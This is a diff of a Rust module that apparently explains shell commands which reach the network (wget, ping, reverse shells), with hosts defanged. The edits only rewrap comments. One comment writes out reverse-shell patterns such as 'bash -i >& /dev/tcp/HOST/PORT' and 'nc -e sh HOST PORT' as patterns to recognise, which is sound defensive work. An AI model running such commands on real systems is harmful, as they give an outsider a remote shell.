@@ -1,6 +1,7 @@
 //! Programs that talk to others: downloads, and shells that somebody elsewhere holds.
 //!
-//! In: a program and its arguments. Out: steps. Hosts are defanged, as the page shows every address of a payload.
+//! In: a program and its arguments. Out: steps. Hosts are defanged, as the page shows every address
+//! of a payload.
 
 use super::line::Call;
 use super::tell::{Around, SHELLS, Told, Weight, base, name_of, shown};
@@ -41,7 +42,8 @@ struct Fetch<'a> {
     sends: bool,
 }
 
-/// Tells what a program would do that talks to others; `false` where it is none, or does not say with whom.
+/// Tells what a program would do that talks to others; `false` where it is none, or does not say
+/// with whom.
 pub(super) fn tell(told: &mut Told, name: &str, words: &[Vec<u8>], around: &Around<'_>) -> bool {
     let said = match name {
         "wget" | "wget2" => busybox_wget(told, words).or_else(|| web(told, words, around, true)),
@@ -261,8 +263,8 @@ fn ping(told: &mut Told, words: &[Vec<u8>]) -> Option<()> {
     Some(())
 }
 
-/// A shell whose input and output are a connection: `bash -i >& /dev/tcp/HOST/PORT`, `nc -e sh HOST PORT`, or both with
-/// a named pipe between.
+/// A shell whose input and output are a connection: `bash -i >& /dev/tcp/HOST/PORT`, `nc -e sh HOST
+/// PORT`, or both with a named pipe between.
 pub(super) fn reverse_shell(pipe: &[Call]) -> Option<String> {
     let words = pipe
         .iter()
@@ -332,7 +334,8 @@ fn weight_of(url: &[u8]) -> Weight {
     }
 }
 
-/// Splits an address into its host, defanged, with the scheme where that is not usual, and its path.
+/// Splits an address into its host, defanged, with the scheme where that is not usual, and its
+/// path.
 pub(super) fn parts(url: &[u8]) -> (String, &[u8]) {
     let scheme = url.windows(3).position(|window| window == b"://");
     let (scheme, rest) = match scheme {
